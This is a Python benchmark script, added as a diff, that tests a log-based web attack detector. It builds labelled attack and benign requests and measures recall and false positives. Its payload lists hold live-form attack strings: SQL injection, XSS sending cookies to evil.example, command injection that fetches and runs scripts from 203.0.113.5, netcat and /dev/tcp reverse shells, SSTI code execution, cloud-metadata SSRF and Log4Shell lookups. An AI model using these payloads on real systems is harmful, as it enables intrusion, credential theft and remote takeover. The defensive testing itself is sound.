@@ -1,0 +1,214 @@
+#!/usr/bin/env python3
+"""A second, smaller labelled set, written blind in session 18: attack requests
+typed from how each technique works (not from the rules, not from any public
+list) and benign requests of a shop, to see what the shipped rules miss on text
+their author did not write them against. Usage:
+
+    bench/eval/blind_set.py build/src/cli/shodo [--misses]
+
+Each attack payload is sent in up to four encodings (as a browser sends it,
+with + for spaces, percent-encoded twice, and as a lax server logs it raw), in
+a parameter, the User-Agent or the path. Prints recall per class and every
+benign request flagged; results and what was changed after the first run are
+in bench/RESULTS.md ("Detection quality")."""
+import collections
+import json
+import os
+import random
+import subprocess
+import sys
+import tempfile
+import urllib.parse
+
+P = []
+def add(cls, where, *payloads):
+    for p in payloads: P.append((cls, where, p))
+
+add("sqli", "q",
+ "1' AND 1=1-- -", "1' AND '1'='1", "1 AND 1=2", "x' OR 'x'='x", "admin'--", "admin' #", "' OR ''='",
+ "1' ORDER BY 3-- -", "1' GROUP BY 1,2,3-- -", "-1 UNION ALL SELECT 1,2,3", "-1'/**/UNION/**/SELECT/**/user(),2-- -",
+ "1' AND SLEEP(5)-- -", "1'; WAITFOR DELAY '0:0:5'--", "1' AND pg_sleep(5)--", "1 AND BENCHMARK(5000000,MD5(1))",
+ "1' AND extractvalue(1,concat(0x7e,version()))-- -", "1' AND updatexml(1,concat(0x7e,(select user())),1)-- -",
+ "1; DROP TABLE users--", "1'; EXEC xp_cmdshell('dir')--", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0-- -",
+ "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64-- -", "1 AND 1=CONVERT(int,@@version)",
+ "1' UNION SELECT NULL,table_name FROM information_schema.tables-- -", "id=1)) OR ((1=1", "1'||(SELECT 1 FROM dual)||'",
+ "1 OR 1=1 LIMIT 1", "1/*!50000UNION*/ /*!50000SELECT*/ 1,2", "1' aNd 1=1 uNiOn SeLeCt 1,2-- -", "1%27%20or%201%3D1--",
+ "' or 1=1 into outfile '/var/www/x.php'-- -", "1' and load_file('/etc/passwd')-- -", "1 and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
+ "1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))-- -", "1) AND 5555=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5)-- x",
+ "1' OR 1=1 -- ", "\" or \"1\"=\"1", "1' having 1=1--", "name=a'+and+substr(user(),1,1)='r", "1 AND 1=1 AND '%'='",
+)
+add("xss", "q",
+ "<script>alert(1)</script>", "<ScRiPt>alert(document.cookie)</sCrIpT>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+ "<svg><script>alert(1)</script>", "\"><script>alert(1)</script>", "'><img src=x onerror=prompt(1)>", "<body onload=alert(1)>",
+ "<iframe src=javascript:alert(1)>", "javascript:alert(document.domain)", "<a href=\"javascript:alert(1)\">x</a>",
+ "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
+ "<marquee onstart=alert(1)>", "<video><source onerror=alert(1)>", "<math><mtext><img src=x onerror=alert(1)>", "<object data=javascript:alert(1)>",
+ "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "&lt;script&gt;alert(1)&lt;/script&gt;",
+ "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">", "<svg onload=fetch('//evil.example/'+document.cookie)>",
+ "\"-alert(1)-\"", "';alert(String.fromCharCode(88,83,83))//", "<style>@import'//evil.example/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">",
+ "<img src=x:alert(1) onerror=eval(src)>", "<base href=//evil.example/>", "<form action=javascript:alert(1)><input type=submit>", "<isindex type=image src=1 onerror=alert(1)>",
+ "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//", "<x onclick=alert(1)>click", "<img/src/onerror=alert(1)>",
+)
+add("traversal", "q",
+ "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "..%252f..%252fetc%252fpasswd", "....//....//etc/passwd", "..\\..\\..\\windows\\win.ini",
+ "%2e%2e/%2e%2e/etc/shadow", "..%c0%af..%c0%afetc/passwd", "/etc/passwd%00.jpg", "php://filter/convert.base64-encode/resource=index.php",
+ "php://input", "file:///etc/passwd", "/proc/self/environ", "../../../../proc/self/cmdline", "C:\\boot.ini", "../../WEB-INF/web.xml",
+ "..%5c..%5c..%5cboot.ini", "/var/log/apache2/access.log", "....\\\\....\\\\etc\\\\passwd", "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
+ "expect://id", "zip://uploads/x.jpg%23shell", "phar://uploads/x.jpg/shell", "/etc/hosts", "../../../../../../../../etc/group",
+ "..;/..;/etc/passwd", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "/.%2e/.%2e/.%2e/etc/passwd",
+)
+add("cmdi", "q",
+ ";id", "|id", "||id", "&&id", "`id`", "$(id)", ";cat /etc/passwd", "| whoami", "; uname -a", "%0aid", "%0Acat%20/etc/passwd",
+ "127.0.0.1; ls -la", "127.0.0.1 && cat /etc/passwd", "x; wget http://203.0.113.5/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
+ "x;curl http://203.0.113.5/s|bash", "$(curl -s http://203.0.113.5/a|sh)", ";nc -e /bin/sh 203.0.113.5 4444", "|bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+ ";cat${IFS}/etc/passwd", "a;sleep 10", "|ping -c 10 127.0.0.1", "`sleep 5`", ";python -c 'import os;os.system(\"id\")'", "; powershell -enc SQBFAFgA",
+ "& ping -n 10 127.0.0.1 &", "| net user", "; rm -rf /tmp/x", ";busybox nc 203.0.113.5 4444 -e sh",
+)
+add("ssti", "q",
+ "{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "{{config}}", "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
+ "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
+ "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "*{7*7}", "@(7*7)",
+ "{php}echo `id`;{/php}", "${{<%[%'\"}}%\\.", "{{lipsum.__globals__['os'].popen('id').read()}}",
+)
+add("ssrf", "q",
+ "http://169.254.169.254/latest/meta-data/", "http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/",
+ "http://[fd00:ec2::254]/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://100.100.100.200/latest/meta-data/", "http://0xa9fea9fe/latest/meta-data/",
+ "http://2852039166/latest/meta-data/", "http://127.0.0.1:8080/admin", "gopher://127.0.0.1:6379/_FLUSHALL", "dict://127.0.0.1:11211/stats", "http://localhost:2375/containers/json",
+ "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "file:///proc/self/environ",
+)
+add("log4shell", "ua",
+ "${jndi:ldap://203.0.113.5:1389/a}", "${jndi:rmi://203.0.113.5/x}", "${jndi:dns://x.evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
+ "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://evil.example/a}",
+ "${jndi:ldaps://evil.example/a}", "${${upper:j}ndi:ldap://evil.example/a}", "${j${k8s:k5:-ND}i:ldap://evil.example/a}", "%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
+)
+add("shellshock", "ua", "() { :; }; echo; /bin/bash -c 'id'", "() { :;}; /bin/cat /etc/passwd", "() { _; } >_[$($())] { echo; id; }", "() { :; }; wget http://203.0.113.5/x")
+add("xxe", "q",
+ "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", "<!DOCTYPE x [<!ENTITY % r SYSTEM \"http://evil.example/x.dtd\"> %r;]>",
+ "<!ENTITY xxe SYSTEM \"php://filter/convert.base64-encode/resource=/etc/passwd\">", "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\">",
+)
+add("ognl", "q",
+ "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "${(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "redirect:${#context['xwork.MethodAccessor.denyMethodExecution']=false}",
+ "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter()}", "action:${@java.lang.Runtime@getRuntime().exec('id')}",
+)
+add("spring4shell", "q", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di", "class.module.classLoader.URLs%5B0%5D=0", "class.classLoader.resources.dirContext.docBase=/tmp")
+add("rfi", "q", "http://evil.example/shell.txt?", "https://203.0.113.5/c99.txt%00", "ftp://evil.example/x.php", "http://evil.example/x.txt?cmd=id", "\\\\evil.example\\share\\x.php")
+add("sensitive", "path",
+ "/.env", "/.git/config", "/.git/HEAD", "/backup.sql", "/db.sql.gz", "/wp-config.php.bak", "/wp-config.php~", "/.DS_Store", "/phpinfo.php", "/server-status",
+ "/.svn/entries", "/.htpasswd", "/config.php.old", "/dump.sql", "/.aws/credentials", "/.ssh/id_rsa", "/web.config.bak", "/.npmrc", "/config/database.yml", "/backup.zip",
+ "/site.tar.gz", "/.idea/workspace.xml", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/env", "/actuator/heapdump", "/.bash_history", "/admin/.env.production",
+ "/api/.env", "/www.zip", "/database.sql", "/.git/logs/HEAD", "/info.php", "/test.php", "/.vscode/sftp.json", "/storage/logs/laravel.log", "/_profiler/phpinfo", "/.hg/store",
+ "/WEB-INF/web.xml", "/app/etc/local.xml", "/sites/default/settings.php.bak", "/config.json.bak", "/id_rsa", "/.docker/config.json", "/docker-compose.yml",
+)
+add("webshell", "path",
+ "/uploads/shell.php", "/wp-content/uploads/2024/01/x.php?cmd=id", "/c99.php", "/r57.php", "/wso.php", "/b374k.php", "/cmd.jsp?cmd=whoami", "/shell.aspx", "/images/1.php?pass=abc&cmd=ls",
+ "/alfa.php", "/up.php", "/wp-content/plugins/hello/cmd.php?c=id", "/upload/webshell.jsp", "/tmp/shell.phtml", "/images/avatar.php.jpg?cmd=id", "/cgi-bin/shell.cgi?cmd=id",
+ "/files/x.php?exec=uname%20-a", "/assets/.x.php", "/indoxploit.php", "/mini.php", "/shell.php5", "/eval.php?code=phpinfo();",
+)
+add("scanner", "ua_only",
+ "sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36 nuclei",
+ "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)", "gobuster/3.6", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
+ "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "Mozilla/5.0 zgrab/0.x", "Acunetix-Product", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+ "Fuzz Faster U Fool v2.1.0", "feroxbuster/2.10.0", "Wfuzz/3.1.0", "WhatWeb/0.5.5", "Arachni/v1.5.1", "w3af.org", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0; OpenVAS)",
+ "Nessus SOAP", "ZmEu", "Morfeus Fucking Scanner", "Hydra", "commix/v3.8", "XSStrike", "dirb", "Jorgee", "Netsparker", "Mozilla/5.0 (compatible; Qualys)", "BackDoorBot/1.0",
+)
+add("xmlrpc", "post", "/xmlrpc.php", "/wordpress/xmlrpc.php", "/blog/xmlrpc.php")
+
+B = [
+ "/search?q=o'reilly+books", "/search?q=select+comfort+mattress", "/search?q=union+station+map", "/search?q=script+writing+course", "/search?q=%E6%9D%B1%E4%BA%AC+%E3%83%90%E3%83%83%E3%82%B0",
+ "/search?q=rock+%26%26+roll", "/search?q=cats+%7C+dogs", "/search?q=%24(document).ready", "/search?q=1%3D1+puzzle", "/search?q=drop+shipping", "/search?q=table+lamp+delete",
+ "/search?q=alert+bracelet", "/search?q=onload+speed", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/search?q=C%3A%5CProgram+Files", "/search?q=..%2F..%2F", "/search?q=etc",
+ "/search?q=%7B%7Bname%7D%7D+template", "/search?q=sleep+mask", "/search?q=benchmark+results", "/search?q=waitfor", "/search?q=passwd+reset", "/search?q=cmd+key",
+ "/oauth/callback?code=4%2F0AX4XfWh&state=abc&redirect_uri=https%3A%2F%2Fshop.example.jp%2Faccount", "/img/resize?url=https%3A%2F%2Fcdn.example.jp%2Fa.jpg&w=300",
+ "/api/v1/products/12345/reviews?page=2&sort=-date", "/graphql?query=%7Bproduct(id%3A12)%7Bname%20price%7D%7D", "/track?utm_source=google&utm_medium=cpc&gclid=Cj0KCQiA&fbclid=IwAR2x",
+ "/.well-known/assetlinks.json", "/.well-known/openid-configuration", "/.well-known/change-password", "/.well-known/security.txt", "/robots.txt", "/sitemap.xml", "/favicon.ico",
+ "/blog/logs-and-lumber", "/logs", "/products/log-cabin.html", "/assets/logo.svg", "/catalog/changelog", "/docs/error-codes", "/help/debug-your-order",
+ "/download?file=manual_v2.pdf", "/download?file=terms-2024.pdf", "/page.php?id=42&lang=ja", "/index.php?route=product/category&path=20_27", "/cart?add=123&qty=2",
+ "/login?next=%2Faccount%2Forders", "/account/orders/98765", "/checkout/step2?coupon=SPRING24", "/news/2024/02/29/leap-day-sale", "/wp-content/uploads/2024/02/banner-1200x600.jpg",
+ "/wp-json/wp/v2/posts?per_page=10", "/feed/?paged=2", "/contact?msg=Hello%2C+I%27d+like+to+return+item+%2312", "/search?q=%22quoted+phrase%22", "/search?q=50%25+off",
+ "/search?q=tom%27s+%26+jerry%27s", "/api/search?filter=%7B%22price%22%3A%7B%22lt%22%3A100%7D%7D", "/static/js/app.3f9a1c.js", "/static/css/main.css?v=1.2.3",
+ "/en/products/usb-c-cable-2m", "/ja/products/%E3%82%B1%E3%83%BC%E3%83%96%E3%83%AB", "/compare?ids=1,2,3", "/share?url=https%3A%2F%2Fshop.example.jp%2Fp%2F1&title=Nice",
+ "/unsubscribe?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.abc", "/reset?token=9f8e7d6c5b4a", "/search?q=%E3%82%BB%E3%83%AC%E3%82%AF%E3%83%88", "/search?q=java+script+book",
+ "/search?q=iframe+stand", "/search?q=svg+icons", "/search?q=windows+ini+file+editor", "/search?q=etc%2Fpasswd+meaning", "/search?q=how+to+use+%24%28id%29",
+ "/help?topic=backup&path=%2Faccount%2Fsettings", "/api/files?name=report.final.v2.xlsx", "/search?q=%E2%80%9Csmart+quotes%E2%80%9D", "/search?q=a%27b%27c",
+ "/p/123?ref=email&campaign=winter_sale_2024&utm_content=hero_banner_variant_b_with_long_name", "/search?q=%5Cn+newline", "/search?q=100%25+cotton",
+]
+
+
+def enc(p, how):
+    if how == 0:  # as a browser sends it
+        return urllib.parse.quote(p, safe="/:=&?()*,;'!$@~[]{}|")
+    if how == 1:  # + for spaces
+        return urllib.parse.quote_plus(p)
+    if how == 2:  # percent-encoded twice
+        return urllib.parse.quote(urllib.parse.quote(p, safe=""), safe="")
+    return urllib.parse.quote(p, safe="/:=&?()*,;'!$@~[]{}|<>\"`^")  # as a lax server logs it
+
+
+def hunt(shodo, log_lines, path):
+    with open(path, "w") as f:
+        f.write("\n".join(log_lines) + "\n")
+    out = subprocess.run([shodo, "hunt", "--quiet", "--no-detectors", "--format", "jsonl",
+                          "--log-format", "combined", path], capture_output=True, text=True).stdout
+    hits = collections.defaultdict(list)
+    for line in out.splitlines():
+        f = json.loads(line)
+        hits[f["log.file.line"]].append(f["rule.title"])
+    return hits
+
+
+def main():
+    shodo = sys.argv[1]
+    show_misses = "--misses" in sys.argv
+    rnd = random.Random(7)
+    work = tempfile.mkdtemp(prefix="shodo-blind-")
+    BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
+    lines, labels = [], []
+    params = ["q", "id", "page", "file", "search", "url", "name", "cat"]
+    for i, (cls, where, p) in enumerate(P):
+        for how in range(4):
+            ua = BROWSER; path = "/index.php"; method = "GET"
+            if where == "q":
+                prm = rnd.choice(params)
+                tgt = f"{path}?{prm}={enc(p, how)}" if rnd.random() < 0.7 else f"{path}?lang=en&{prm}={enc(p, how)}&sort=asc"
+            elif where == "ua":
+                if how > 1: continue
+                tgt = "/"; ua = p
+            elif where == "ua_only":
+                if how > 0: continue
+                tgt = rnd.choice(["/", "/index.php", "/login", "/robots.txt"]); ua = p
+            else:
+                if how > 0: continue
+                tgt = p
+            method = "POST" if where == "post" else "GET"
+            ua = ua.replace('"', '\\"')
+            tgt = tgt.replace('"', '%22').replace(' ', '%20')
+            lines.append(f'203.0.113.{i%200+1} - - [29/Feb/2024:15:{i%60:02d}:{how:02d} +0000] "{method} {tgt} HTTP/1.1" 404 196 "-" "{ua}"')
+            labels.append((cls, p, how, tgt))
+    hits = hunt(shodo, lines, os.path.join(work, "attacks.log"))
+    tot = collections.Counter()
+    det = collections.Counter()
+    misses = []
+    for n, (cls, p, how, tgt) in enumerate(labels, 1):
+        tot[cls] += 1
+        if n in hits:
+            det[cls] += 1
+        else:
+            misses.append((cls, how, p))
+    for c in tot:
+        print(f"{c:12s} {det[c]:4d} / {tot[c]:4d}")
+    print(f"attacks detected: {sum(det.values())} / {sum(tot.values())}")
+    if show_misses:
+        for cls, how, p in misses:
+            print("MISS", cls, "encoding", how, p)
+    ua = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 "
+          "(KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1")
+    benign = [f'198.51.100.{i % 200 + 1} - - [29/Feb/2024:16:{i % 60:02d}:00 +0000] '
+              f'"GET {t} HTTP/1.1" 200 5120 "https://shop.example.jp/" "{ua}"' for i, t in enumerate(B)]
+    flagged = hunt(shodo, benign, os.path.join(work, "benign.log"))
+    print(f"benign flagged: {len(flagged)} / {len(B)}")
+    for n, titles in sorted(flagged.items()):
+        print("FLAGGED", B[n - 1], "|", "; ".join(titles))
+
+
+if __name__ == "__main__":
+    main()
